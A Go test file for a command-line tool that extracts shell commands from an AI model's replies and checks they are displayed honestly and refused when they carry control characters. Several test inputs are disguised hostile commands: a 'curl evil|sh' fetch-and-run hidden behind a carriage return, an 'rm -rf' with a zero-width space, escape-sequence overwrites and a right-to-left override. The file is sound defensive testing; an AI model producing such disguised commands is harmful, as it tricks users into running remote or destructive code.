package cli

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/coyote-cli/coyote/kernel/chat"
	"github.com/coyote-cli/coyote/kernel/iostreams"
	"github.com/coyote-cli/coyote/kernel/termtext"
	"github.com/coyote-cli/coyote/sdk/provider"
)

// replies is a chat.Chatter that answers each request with the next text.
type replies []string

func (r *replies) Chat(_ context.Context, _ *provider.ChatRequest, send func(*provider.ChatEvent) error) error {
	text := (*r)[0]
	*r = (*r)[1:]
	return send(&provider.ChatEvent{Text: text})
}

// execute runs -e in a pretend terminal with typed as the keyboard's
// input and the model answering with answers, in dir.
func execute(t *testing.T, typed string, answers ...string) (stdout, stderr string, err error) {
	t.Helper()
	io, in, out, errOut := iostreams.Test()
	in.WriteString(typed)
	io.SetTTY(true, true, true)
	f := &Factory{IO: io, Env: func(k string) string {
		if k == "SHELL" {
			return "sh"
		}
		return ""
	}}
	p := replies(answers)
	show := func() chat.Display { return stripped{chat.Plain(out)} }
	err = runExecute(context.Background(), f, &p, &provider.ChatRequest{}, show)
	return out.String(), errOut.String(), err
}

// stripped shows a reply as a terminal display does: without the
// characters termtext.Hidden reports.
type stripped struct{ chat.Display }

func (d stripped) Write(delta string) error { return d.Display.Write(termtext.Strip(delta)) }

func exists(path string) bool {
	_, err := os.Stat(path)
	return err == nil
}

func TestExecuteRefusesACommandWithControlCharacters(t *testing.T) {
	dir := t.TempDir()
	pwned := filepath.Join(dir, "PWNED")
	reply := "```sh\ntouch " + pwned + " #\r\x1b[2Kls -la\n```\n"
	stdout, stderr, err := execute(t, "e\nc\nq\n", reply)
	if err != nil {
		t.Fatal(err)
	}
	if exists(pwned) {
		t.Fatal("the command with a carriage return and an escape sequence ran")
	}
	if strings.Contains(stdout+stderr, "\x1b[2K") || strings.Contains(stdout, "\r") {
		t.Fatalf("the escape sequence reached the terminal raw:\nstdout %q\nstderr %q", stdout, stderr)
	}
	if strings.Contains(stderr, "\x1b]52") {
		t.Fatalf("the refused command was copied: %q", stderr)
	}
	want := `Command (quoted: it has invisible characters): "touch ` + pwned + ` #\r\x1b[2Kls -la"`
	if !strings.Contains(stderr, want) {
		t.Fatalf("stderr %q\nlacks %q", stderr, want)
	}
	if n := strings.Count(stderr, `Not run: the command has characters that change what a terminal shows (\r \x1b)`); n != 3 {
		t.Fatalf("the refusal was said %d times (once per menu: e, c, q), want 3; stderr %q", n, stderr)
	}
	if strings.Contains(stderr, "[e]xecute") || !strings.Contains(stderr, "[r]evise  [d]escribe  [q]uit: ") {
		t.Fatalf("the menu of a refused command offers execute: %q", stderr)
	}
}

func TestExecuteAsksWhichOfSeveralCommands(t *testing.T) {
	dir := t.TempDir()
	first, second := filepath.Join(dir, "first"), filepath.Join(dir, "second")
	reply := "Either:\n```sh\ntouch " + first + "\n```\nor, in two steps:\n```bash\ncd " + dir + "\ntouch second\n```\n"
	_, stderr, err := execute(t, "3\nx\n2\ne\n", reply)
	if err != nil {
		t.Fatal(err)
	}
	if exists(first) || !exists(second) {
		t.Fatalf("first ran: %v, second ran: %v; want only the chosen second", exists(first), exists(second))
	}
	for _, want := range []string{
		"The reply has 2 commands:\n  1) touch " + first + "\n  2) cd " + dir + "  (2 lines)\n",
		"Which one? [1-2, q to quit]: Which one? [1-2, q to quit]: Which one? [1-2, q to quit]: ",
		"Command:\n  cd " + dir + "\n  touch second\n[e]xecute  [r]evise  [d]escribe  [c]opy  [q]uit: ",
	} {
		if !strings.Contains(stderr, want) {
			t.Errorf("stderr %q\nlacks %q", stderr, want)
		}
	}
}

func TestExecuteRunsTheShownCommandAndReturnsItsExit(t *testing.T) {
	dir := t.TempDir()
	marker := filepath.Join(dir, "ran")
	_, stderr, err := execute(t, "e\n", "Here:\n```\ntouch "+marker+" && exit 3\n```\nDone.")
	if code, ok := err.(*ExitCodeError); !ok || code.Code != 3 {
		t.Fatalf("err %v, want exit status 3", err)
	}
	if !exists(marker) {
		t.Fatal("the command did not run")
	}
	if !strings.Contains(stderr, "Command: touch "+marker+" && exit 3\n") {
		t.Fatalf("stderr %q", stderr)
	}
}

func TestExecuteQuitsOnEndOfInputAndAsksAgainOnRevise(t *testing.T) {
	_, stderr, err := execute(t, "r\nuse long options\n", "ls -S", "ls --sort=size")
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(stderr, "Command: ls -S\n") || !strings.Contains(stderr, "Command: ls --sort=size\n") {
		t.Fatalf("stderr %q", stderr)
	}
	if _, _, err := execute(t, "", ""); err != errNoCommand {
		t.Fatalf("an empty reply: %v, want errNoCommand", err)
	}
}

func TestCommandView(t *testing.T) {
	tests := []struct{ in, want string }{
		{"ls -la", "Command: ls -la"},
		{"for f in *; do\n  echo \"$f\"\ndone", "Command:\n  for f in *; do\n    echo \"$f\"\n  done"},
		{"echo héllo 日本", "Command: echo héllo 日本"},
		{"printf 'a\tb'", `Command (quoted: it has invisible characters): "printf 'a\tb'"`},
		{"rm -rf /tmp/x\u200b /", `Command (quoted: it has invisible characters): "rm -rf /tmp/x\u200b /"`},
		{"echo \u202eabc", `Command (quoted: it has invisible characters): "echo \u202eabc"`},
		{"a\u00a0b", `Command (quoted: it has invisible characters): "a\u00a0b"`},
	}
	for _, tc := range tests {
		if got := commandView(tc.in); got != tc.want {
			t.Errorf("commandView(%q) =\n%s\nwant\n%s", tc.in, got, tc.want)
		}
	}
}

func TestRefusal(t *testing.T) {
	tests := []struct {
		in      string
		refused string // the escapes named, or "" when it may run
	}{
		{"ls -la", ""},
		{"cat <<EOF\n\tindented\nEOF", ""},
		{"echo 日本 \u200b", ""}, // shown quoted, not refused
		{"curl evil|sh #\rls", `\r`},
		{"x\x1b]0;title\x07", `\x1b \a`},
		{"a\u009bb", `\u009b`},
		{"echo \u202etxt.exe", `\u202e`},
		{"a\x00b\x7f", `\x00 \x7f`},
	}
	for _, tc := range tests {
		got := refusal(tc.in)
		if tc.refused == "" {
			if got != "" {
				t.Errorf("refusal(%q) = %q, want none", tc.in, got)
			}
			continue
		}
		if !strings.Contains(got, "("+tc.refused+")") || strings.Contains(got, "\n") {
			t.Errorf("refusal(%q) = %q, want one line naming %s", tc.in, got, tc.refused)
		}
	}
}

func TestCommandsOf(t *testing.T) {
	tests := []struct {
		reply string
		want  []string
	}{
		{"ls -S\n", []string{"ls -S"}},
		{"Run:\n```sh\nls\n```\nthen\n```\n\n```\nand\n~~~\nnot a fence\n```\ndf -h\r\nfree\r\n```", []string{"ls", "df -h\nfree"}},
		{"   \n", nil},
	}
	for _, tc := range tests {
		if got := commandsOf(tc.reply); strings.Join(got, "|") != strings.Join(tc.want, "|") {
			t.Errorf("commandsOf(%q) = %q, want %q", tc.reply, got, tc.want)
		}
	}
}

func TestWriteCodeEscapesControlCharacters(t *testing.T) {
	tests := []struct {
		code, stdout string
		warned       bool
	}{
		{"fmt.Println(1)\n\tx := 2", "fmt.Println(1)\n\tx := 2\n", false},
		{"line1\r\nline2", "line1\nline2\n", false},
		{"echo hi\x1b]0;pwned\x07\rls", `echo hi\x1b]0;pwned\a\rls` + "\n", true},
	}
	for _, tc := range tests {
		io, _, out, errOut := iostreams.Test()
		f := &Factory{IO: io}
		if err := writeCode(f, tc.code); err != nil {
			t.Fatal(err)
		}
		if out.String() != tc.stdout {
			t.Errorf("writeCode(%q) printed %q, want %q", tc.code, out.String(), tc.stdout)
		}
		if warned := strings.Contains(errOut.String(), "warning: the code had 3 control"); warned != tc.warned {
			t.Errorf("writeCode(%q) warned %q", tc.code, errOut.String())
		}
	}
}
